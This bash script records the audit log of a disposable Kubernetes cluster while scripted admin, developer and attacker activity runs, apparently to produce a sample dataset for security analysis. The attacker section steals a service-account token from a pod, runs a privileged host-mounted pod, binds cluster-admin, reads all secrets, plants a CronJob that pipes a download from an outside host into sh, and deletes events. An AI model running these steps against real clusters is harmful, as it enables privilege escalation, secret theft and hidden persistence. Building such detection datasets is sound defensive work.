#!/usr/bin/env bash
# Records k8s-first-steps.jsonl.gz: the audit log of a small Kubernetes cluster while the story of README.md happens in it.
#
#   record.sh CLUSTER OUTPUT
#
# CLUSTER is a command that runs a throw-away single-node cluster. It must not run yet. Its state is wiped before and after.
#   CLUSTER start               returns when the API server and the node are ready
#   CLUSTER stop wipe           ends the cluster and forgets its state
#   CLUSTER status              a line "NAME runs, ..." for each component that runs
#   CLUSTER env                 shell assignments, CLUSTER_AUDIT_LOG among them
#   CLUSTER kubectl ARGUMENT... as administrator, or with AS=user AS_GROUP=group AS_ADDRESS=source as somebody else
#   CLUSTER on-node COMMAND...  runs a command in the node's network
# The API server must write all requests with their bodies, without the stage RequestReceived.
# Needs root, curl, jq and util-linux.
set -euo pipefail

die() { printf 'error: %s\n' "$*" >&2; exit 1; }
say() { printf '[%3d s] %s\n' "$SECONDS" "$*"; }

[[ $# == 2 ]] || die "usage: record.sh CLUSTER OUTPUT"
[[ $(id -u) == 0 ]] || die "this needs root"
cluster=$(realpath -e "$1")
output=$(realpath -m "$2")
[[ -d $(dirname "$output") ]] || die "no such directory: $(dirname "$output")"

# Controllers write the name of their machine into leases and events. A name of its own keeps this machine's out of them.
uts=$(readlink /proc/self/ns/uts)
if [[ ${RECORDING_OUTER_UTS:-$uts} == "$uts" ]]; then
  RECORDING_OUTER_UTS=$uts exec unshare --uts "$BASH" "$0" "$cluster" "$output"
fi
echo first-steps >/proc/sys/kernel/hostname

state=$("$cluster" status || true)
[[ $state != *" runs,"* ]] || die "the cluster runs already: stop it first, this would wipe it"

work=$(mktemp -d)
clean_up() {
  "$cluster" stop wipe || true
  rm -rf "$work"
}
trap clean_up EXIT

readonly OUTSIDE=203.0.113.66
# Each person has a kubectl of their own, which has to discover the API first.
admin=("$cluster" kubectl --cache-dir "$work/admin")
dana=(env AS=dana AS_GROUP=developers "$cluster" kubectl --cache-dir "$work/dana")
mallory=(env AS=mallory AS_GROUP=contractors AS_ADDRESS="$OUTSIDE" "$cluster" kubectl --cache-dir "$work/mallory")
thief=("${mallory[@]}" --kubeconfig "$work/stolen.conf") # mallory with a stolen token

# Runs a command that the API server must refuse.
refused() {
  local said
  if said=$("$@" 2>&1); then die "was not refused: $*"; fi
  [[ $said == *"(Forbidden)"* ]] || die "failed for another reason: $*: $said"
}

# Sends a request without credentials and checks the status of the answer.
anonymous() { # status path
  local status
  status=$("$cluster" on-node curl -sk -o /dev/null -w '%{http_code}' "https://$OUTSIDE:6443$2")
  [[ $status == "$1" ]] || die "anonymous $2: $status instead of $1"
}

say "starting the cluster"
"$cluster" stop wipe
"$cluster" start
eval "$("$cluster" env)"
sleep 20 # the first start keeps the controllers busy for a while
begin=$(stat -c %s "$CLUSTER_AUDIT_LOG")

# ---------------------------------------------------------------- ordinary life

say "administrator: a namespace and an application"
"${admin[@]}" create namespace shop
sleep 1
"${admin[@]}" create serviceaccount web --namespace shop
"${admin[@]}" create configmap web-settings --namespace shop --from-literal=LOG_LEVEL=info \
  --from-literal=index.html='<h1>Fresh bread every morning</h1>'
"${admin[@]}" create secret generic web-session --namespace shop --from-literal=cookie-key=only-for-this-recording
"${admin[@]}" apply -f - <<'YAML'
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  namespace: shop
  labels: {app: web}
spec:
  replicas: 2
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      serviceAccountName: web
      securityContext: {runAsNonRoot: true, runAsUser: 10001}
      containers:
      - name: web
        image: busybox:1.35
        command: [httpd, -f, -v, -p, "8080", -h, /pages]
        env:
        - name: LOG_LEVEL
          valueFrom: {configMapKeyRef: {name: web-settings, key: LOG_LEVEL}}
        ports:
        - containerPort: 8080
        readinessProbe:
          httpGet: {path: /, port: 8080}
          periodSeconds: 2
        resources:
          requests: {cpu: 10m, memory: 8Mi}
          limits: {cpu: 100m, memory: 32Mi}
        securityContext:
          allowPrivilegeEscalation: false
          capabilities: {drop: [ALL]}
        volumeMounts:
        - {name: pages, mountPath: /pages, readOnly: true}
        - {name: session, mountPath: /session, readOnly: true}
      volumes:
      - name: pages
        configMap: {name: web-settings}
      - name: session
        secret: {secretName: web-session}
YAML
"${admin[@]}" apply -f - <<'YAML'
apiVersion: v1
kind: Service
metadata:
  name: web
  namespace: shop
spec:
  selector: {app: web}
  ports:
  - {port: 80, targetPort: 8080}
YAML
"${admin[@]}" rollout status deployment/web --namespace shop --timeout 90s
sleep 2

say "administrator: rights, too many of them for mallory"
"${admin[@]}" apply -f - <<'YAML'
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: web-keeper
  namespace: shop
rules:
- apiGroups: [""]
  resources: [pods, pods/log, services]
  verbs: [get, list, watch]
- apiGroups: [apps]
  resources: [deployments]
  verbs: [get, list, watch]
- apiGroups: [apps]
  resources: [deployments/scale]
  verbs: [get, update, patch]
YAML
"${admin[@]}" create rolebinding web-keepers --namespace shop --role=web-keeper --group=developers
sleep 1
"${admin[@]}" create rolebinding contractor-edit --namespace shop --clusterrole=edit --user=mallory
"${admin[@]}" apply -f - <<'YAML'
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: onboarding
rules:
- apiGroups: [rbac.authorization.k8s.io]
  resources: [clusterroles, clusterrolebindings]
  verbs: [get, list, create, bind]
YAML
"${admin[@]}" create clusterrolebinding onboarding --clusterrole=onboarding --user=mallory
sleep 2

say "developer: looks after the application"
"${dana[@]}" get pods --namespace shop
pod=$("${dana[@]}" get pods --namespace shop --selector app=web -o 'jsonpath={.items[0].metadata.name}')
"${dana[@]}" logs "$pod" --namespace shop --tail 5
sleep 1
"${dana[@]}" scale deployment/web --namespace shop --replicas 3
"${dana[@]}" rollout status deployment/web --namespace shop --timeout 90s
"${dana[@]}" get pods --namespace shop -o wide
sleep 3

# ---------------------------------------------------------------- the attack

say "attack 1: probing without credentials"
anonymous 200 /version
anonymous 403 /api/v1/secrets
anonymous 403 /api/v1/namespaces/kube-system/pods
sleep 2

say "attack 2: what may mallory do?"
refused "${mallory[@]}" get secrets --namespace kube-system
refused "${mallory[@]}" get nodes
"${mallory[@]}" auth can-i create clusterrolebindings
sleep 2

say "attack 3: commands in a pod, the token of its service account"
"${mallory[@]}" get pods --namespace shop
"${mallory[@]}" exec "$pod" --namespace shop -- id
token=$("${mallory[@]}" exec "$pod" --namespace shop -- cat /var/run/secrets/kubernetes.io/serviceaccount/token)
[[ $token == *.*.* ]] || die "that is no token"
sleep 2

say "attack 4: a pod with the whole node in its hands"
# It sleeps and nothing else, and sees the node's files read-only: what counts is the request.
"${mallory[@]}" apply -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata:
  name: disk-report
  namespace: shop
spec:
  hostPID: true
  containers:
  - name: report
    image: busybox:1.35
    command: [sleep, "300"]
    securityContext: {privileged: true}
    volumeMounts:
    - {name: node, mountPath: /node, readOnly: true}
  volumes:
  - name: node
    hostPath: {path: /}
YAML
"${mallory[@]}" wait pod/disk-report --namespace shop --for=condition=Ready --timeout 60s
sleep 2
"${mallory[@]}" delete pod disk-report --namespace shop --grace-period 1
sleep 2

say "attack 5: cluster-admin for the service account"
"${mallory[@]}" create clusterrolebinding web-metrics --clusterrole=cluster-admin --serviceaccount=shop:web
sleep 2

say "attack 6: all secrets, with the stolen token"
(umask 077; cat >"$work/stolen.conf") <<YAML
apiVersion: v1
kind: Config
clusters: [{name: stolen, cluster: {server: "https://$OUTSIDE:6443", insecure-skip-tls-verify: true}}]
users: [{name: stolen, user: {token: "$token"}}]
contexts: [{name: stolen, context: {cluster: stolen, user: stolen}}]
current-context: stolen
YAML
"${thief[@]}" get secrets --all-namespaces >/dev/null
sleep 2

say "attack 7: a way back in"
# Never runs in the seconds that the cluster has left (and would reach nobody).
"${thief[@]}" apply -f - <<YAML
apiVersion: batch/v1beta1
kind: CronJob
metadata:
  name: log-sweep
  namespace: kube-system
spec:
  schedule: "0 0 29 2 *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
          - name: sweep
            image: busybox:1.35
            command: [sh, -c, "wget -q -O- http://$OUTSIDE/sweep | sh"]
YAML
sleep 2

say "attack 8: attach and port-forward"
timeout 3 "${mallory[@]}" attach "$pod" --namespace shop </dev/null || [[ $? == 124 ]]
timeout 6 "${mallory[@]}" port-forward service/web --namespace shop 18080:80 >/dev/null &
forward=$!
page=
for _ in 1 2 3 4 5 6 7 8; do
  sleep .5
  if page=$("$cluster" on-node curl -s http://127.0.0.1:18080/index.html); then break; fi
done
wait "$forward" || [[ $? == 124 ]]
[[ $page == *bread* ]] || die "nothing came through the forwarded port"
sleep 2

say "attack 9: credentials in a configmap"
"${mallory[@]}" create configmap sync-profile --namespace shop --from-literal=profile='[backup]
aws_access_key_id = EXAMPLEKEY
aws_secret_access_key = EXAMPLE/NOT/A/REAL/SECRET/FOR/DEMONSTRATION
'
sleep 2

say "attack 10: covering the traces"
"${thief[@]}" delete events --namespace shop --field-selector involvedObject.name=disk-report
"${thief[@]}" delete --raw /api/v1/namespaces/shop/events >/dev/null
sleep 5

# ---------------------------------------------------------------- the recording

say "extracting the story"
end=$(stat -c %s "$CLUSTER_AUDIT_LOG")
tail -c "+$((begin + 1))" "$CLUSTER_AUDIT_LOG" | head -c "$((end - begin))" >"$work/all.jsonl" || true # tail is cut off
# jq only chooses lines: what is written are the API server's own bytes.
# The node's requests about its own Node object describe the machine of the recording; the rest is kept.
jq '(.objectRef.resource == "nodes" and (.user.username | startswith("system:node:"))) | not' "$work/all.jsonl" >"$work/kept" \
  || die "the audit log is not whole"
paste "$work/kept" "$work/all.jsonl" | sed -n 's/^true\t//p' >"$work/story.jsonl"
gzip -9n <"$work/story.jsonl" >"$work/story.jsonl.gz"
mv "$work/story.jsonl.gz" "$output"
say "$(wc -l <"$work/story.jsonl") of $(wc -l <"$work/all.jsonl") events, $(stat -c %s "$output") bytes: $output"
say "it holds tokens of this cluster: delete the cluster's keys before you publish it"
